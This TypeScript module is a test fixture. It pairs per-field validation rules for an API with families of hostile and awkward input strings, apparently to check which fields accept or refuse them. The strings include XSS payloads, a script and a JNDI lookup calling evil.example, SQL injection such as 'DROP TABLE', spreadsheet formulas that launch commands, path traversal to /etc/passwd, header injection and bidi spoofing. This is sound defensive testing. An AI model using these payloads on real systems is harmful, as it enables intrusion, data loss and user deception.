// Texts that mean harm or are merely awkward, as somebody could give them for a name or a description. All are our own
// making. Each says where the API takes it; everywhere else it has to be refused, with nothing changed.
import { inFull } from "./dose.ts";

/** The fields that take text of somebody's, by the rule that each has. */
export const places = {
  roleName: (text: string) => /^[A-Za-z0-9_-]{1,64}$/.test(text),
  roleDescription: (text: string) => countCharacters(text) <= 256,
  groupName: (text: string) => /^[a-z0-9_-]{3,64}$/.test(text),
  serviceAccountName: (text: string) => text.length >= 1 && text.length <= 255,
  serviceAccountDescription: (text: string) => text.length <= 1024,
  projectName: (text: string) => text.length <= 64 && /^\S([^\p{Cc}]*\S)?$/u.test(text),
  projectDescription: (text: string) => text.length <= 255,
  tagValue: (text: string) => /^[a-z0-9._@-]{1,63}$/.test(text),
  teamName: (text: string) => text.trim() !== "" && countCharacters(text) <= 128 && !hasUnseen(text),
  rowName: (text: string) => text.trim() !== "" && countCharacters(text) <= 128 && !hasUnseen(text),
  reason: (text: string) => text.length >= 1 && text.length <= 1000,
  namespaceName: (text: string) => /^[a-z][a-z0-9-]{0,37}[a-z0-9]$/.test(text) && !text.includes("--"),
} as const;

export type Place = keyof typeof places;

export interface HostileString {
  readonly family: string;
  readonly text: string;
  readonly legalAs: readonly Place[];
}

const countCharacters = (text: string): number => Array.from(text).length;

/** Control characters, line breaks and what turns the direction of the words that follow. */
const hasUnseen = (text: string): boolean => /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u.test(text);

/** No field anywhere takes these: they do not come back from a store as they were given. */
const isKeptNowhere = (text: string): boolean => text.includes("\0") || text.startsWith("\ufeff");

/** What each text would set, were it run. */
const run = "window.harmed=1";
/** The same in the shape that a call of a function has. */
const call = "alert(1)";

const handlers = ["onload", "onerror", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "onwheel"];
const schemes = ["javascript", "JaVaScRiPt", "vbscript", "data", "blob", "file", "view-source", "jar", "feed"];
const tags = ["script", "iframe", "object", "embed", "base", "form", "link", "meta", "style", "template", "dialog"];

const families: Readonly<Record<string, readonly string[]>> = {
  script: [
    `<script>${run}</script>`,
    `</script><script>${run}</script>`,
    `<ScRiPt >${run}</sCrIpT >`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<script src=//evil.example></script>`,
    `<script type=module>${run}</script>`,
    `"><script>${run}</script>`,
    `'><script>${run}</script>`,
    `</title><script>${run}</script>`,
    `</textarea><script>${run}</script>`,
    `<!--<script>${run}//-->`,
    `<noscript><p title="</noscript><script>${run}</script>">`,
  ],
  tag: tags.map((tag) => `<${tag} src=x href=x>${tag}</${tag}>`),
  handler: handlers.flatMap((name) => [`<img src=x ${name}="${run}">`, `" ${name}="${run}" autofocus x="`]),
  svg: [
    `<svg onload=${run}>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin=${run} attributeName=x>`,
    `<svg><a xlink:href="javascript:${run}"><text>x</text></a>`,
    `<svg><foreignObject><iframe srcdoc="<script>${run}</script>">`,
    `<svg><use href="data:image/svg+xml,x#y">`,
  ],
  mathml: [
    `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
    `<math><mtext><style><img src=x onerror=${run}>`,
    `<math href="javascript:${run}">x</math>`,
    `<math><annotation-xml encoding="text/html"><script>${run}</script>`,
  ],
  template: [
    `{{constructor.constructor('${run}')()}}`,
    "{{7*7}}",
    "$".concat("{7*7}"),
    "#{7*7}",
    "<%= 7*7 %>",
    "{%raw%}{{x}}{%endraw%}",
    "[[$".concat("{7*7}]]"),
    "@(7*7)",
    "$".concat("{jndi:ldap://evil.example/a}"),
    "%{7*7}",
    "{0}%s%n%x%p",
    "`id`$(id)",
  ],
  url: schemes.map((scheme) => `${scheme}:${call}`),
  address: [
    "//evil.example/x",
    "https://evil.example@example.com",
    "https://example.com\\@evil.example",
    "http://[::1]:7233/",
    "../../../etc/passwd",
    "..%2f..%2f",
    "%3Cscript%3E",
    "%00%0d%0aSet-Cookie:x=1",
    "?a=1&b=2#c",
    "/settings/custom-roles",
    "mailto:x@example.com?bcc=y",
    "jаvascript:x",
  ],
  css: [
    "</style><style>*{display:none}",
    "x;background:url(//evil.example)",
    "expression(window.harmed=1)",
    "@import '//evil.example';",
    "position:fixed;inset:0;z-index:9999",
    "*{color:red!important}/*",
    "\\3c script\\3e",
    "-moz-binding:url(x)",
  ],
  entity: ["&lt;script&gt;", "&#60;script&#62;", "&#x3c;b&#x3e;", "&amp;amp;", "&nbsp;", "&NotAnEntity;", "&#0;", "&"],
  utf7: ["+ADw-script+AD4-", "+ADw-img src+AD0-x+AD4-", "+AGEAbABlAHIAdA-", "+/v8-"],
  long: ["x".repeat(64), "W".repeat(64), "W".repeat(255), "i".repeat(256), "long ".repeat(51), "-".repeat(63)],
  "too long": ["x".repeat(257), "W".repeat(1001), "y".repeat(1025), "ab ".repeat(700)],
  "right to left": [
    "سلام ".repeat(12).trim(),
    "שלום עולם",
    "abc שלום 123 (x) عربى [y]",
    "(ا)",
    "١٢٣ ABC",
    "\u200fright\u200e",
  ],
  bidi: [
    "\u202eevil si siht",
    "\u202egnp.exe\u202c",
    "\u202dleft\u202c",
    "\u202aembedded",
    "\u202bembedded",
    "\u2066isolated",
    "\u2067isolated\u2069",
    "\u2068first\u2069\u2069\u2069",
    "\u061cmark",
    "a\u202e)b(\u2066",
    "\u202e".repeat(40),
  ],
  invisible: [
    "\u200b",
    "\u200b\u200c\u200d\u2060",
    "ad\u200bmin",
    "ad\u00admin",
    "\u2800",
    "\u3164",
    "\u{e0041}\u{e0042}",
    "\ufe0f",
    "x\ufeffy",
    "\u180e",
  ],
  combining: [
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324",
    "a\u0301\u0302\u0303".repeat(10),
    `x${"\u0336".repeat(60)}`,
    "\u0e01\u0e49\u0e49\u0e49\u0e49\u0e49",
    "\u0300\u0301",
    "e\u0301 é",
    "ﷺ".repeat(20),
    "𒐫".repeat(20),
  ],
  emoji: [
    "👩\u200d👩\u200d👧",
    "👩\u200d👩\u200d👧\u200d👦".repeat(5),
    "😀".repeat(32),
    "🏳\ufe0f\u200d🌈",
    "🇩🇪🇫🇷🇩",
    "👍🏿👍🏻",
    "1\ufe0f\u20e3",
    "\ud83e\udee8",
  ],
  "control characters": [
    "two\nlines",
    "two\r\nlines",
    "tab\there",
    "bell\u0007",
    "\u001b[31mred\u001b[0m",
    "\u001b]0;title\u0007",
    "back\b\b\b\b",
    "delete\u007f",
    "next\u0085line",
    "line\u2028separator",
    "paragraph\u2029separator",
    "\u0001\u0002\u0003",
    "\n".repeat(50),
    "form\ffeed\vtab",
  ],
  "kept nowhere": ["nul\0inside", "\0", "\ufeffmark"],
  spaces: [" ", "   ", "\u00a0", "\u2003\u2003", "\u3000", " lead", "trail ", "in  side", "\t", " ".repeat(60)],
  json: ['{"a":1}', '"', "'", "\\", '","admin":true,"', "[]", "null", "undefined", "true", "NaN", "-0", "1e999"],
  sql: [
    "'; DROP TABLE custom_roles; --",
    "' OR '1'='1",
    '"; SELECT pg_sleep(1); --',
    "1; UPDATE users SET x=1",
    "%_%",
    "/* x */",
    "$1",
    "E'\\x41'",
  ],
  formula: [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    ' =1,"=2"',
    "a\n=1+1",
  ],
  homoglyph: ["аdmin", "ownеr", "ＡＤＭＩＮ", "𝐚𝐝𝐦𝐢𝐧", "ɑdmin", "0wner", "rn", "ⓐⓓⓜⓘⓝ"],
  prototype: [
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "__defineGetter__",
    "then",
    "$$typeof",
    "dangerouslySetInnerHTML",
    "ref",
    "key",
  ],
  markdown: [
    `[x](javascript:${run})`,
    `![x](https://evil.example/x.png)`,
    "# heading",
    "| a | b |",
    "```\ncode",
    "**bold** _it_ ~~no~~",
    "<https://evil.example>",
    "* [ ] task",
    "> quote",
    "--- x ---",
  ],
  path: [".", "..", "con", "NUL", "a/b", "a\\b", "~root", "*", "new", "edit", "-rf", "--help"],
};

/** Every text once; in a dose every third of each family. */
export const hostileStrings: readonly HostileString[] = Object.entries(families).flatMap(([family, texts]) =>
  texts
    .filter((_, index) => inFull || index % 3 === 0)
    .map((text) => ({
      family,
      text,
      legalAs: isKeptNowhere(text) ? [] : (Object.keys(places) as Place[]).filter((place) => places[place](text)),
    })),
);

export const legalAs = (place: Place): readonly string[] =>
  hostileStrings.filter(({ legalAs: legal }) => legal.includes(place)).map(({ text }) => text);

export const refusedAs = (place: Place): readonly string[] =>
  hostileStrings.filter(({ legalAs: legal }) => !legal.includes(place)).map(({ text }) => text);
